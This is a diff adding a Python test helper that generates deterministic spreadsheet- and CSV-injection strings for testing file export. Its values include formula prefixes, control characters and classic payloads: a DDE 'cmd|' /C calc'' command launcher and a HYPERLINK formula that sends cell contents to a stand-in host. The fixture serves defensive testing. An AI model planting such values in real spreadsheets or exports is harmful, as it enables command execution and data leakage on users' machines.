@@ -1,0 +1,32 @@
+"""Names that somebody chose to make a spreadsheet run them, or to break a file; the same on every run."""
+
+import random
+from collections.abc import Sequence
+
+_FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
+_STARTS = (
+    *("=", "+", "-", "@", *_FULL_WIDTH),
+    *("\t", "\r", "\n", "\r\n", "\t=", "\r=", "\n=", "\r\n@"),
+    *(" =", "  \uff1d", "\u00a0=", "\u200b=", "\ufeff=", "\u2028=", "\x00=", "\x1b+"),
+    *("'", "'=", "''", '"', '"=', '""'),
+    *(",=", ";=", ";;-", "a,=", "a;@", "a\t+", "a\n=", "a\r\n-", "a;\u3000\uff1d"),
+    *("<r>", "</r>", "&", "]]>"),
+)
+_MIDDLES = (
+    *("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"click")', 'DDE("a";"b")'),
+    *('"', '""', "'", "\n", "\r", "\r\n", "\t", ",", ";", "|", "=", "\\", " "),
+    *("<t>x</t>", "&amp;", "\u202e", "\x07", "\u00e9", "\u6771\u4eac", "\U0001f600"),
+    *("-2", "1e9", "2026-10-05", "TRUE", "http://x.test/"),
+)
+_ENDS = ("", "", "", " ", "\n", "\r", "\t", '"', "'", ",", ";", "</r>", "=1")
+
+
+def hostile_names(count: int, seed: int) -> Sequence[str]:
+    """So many different names; each of the starts occurs."""
+    rng = random.Random(seed)
+    names: dict[str, None] = {}
+    while len(names) < count:
+        start = _STARTS[len(names) % len(_STARTS)]
+        middle = "".join(rng.choice(_MIDDLES) for _ in range(rng.randrange(4)))
+        names[start + middle + rng.choice(_ENDS)] = None
+    return list(names)
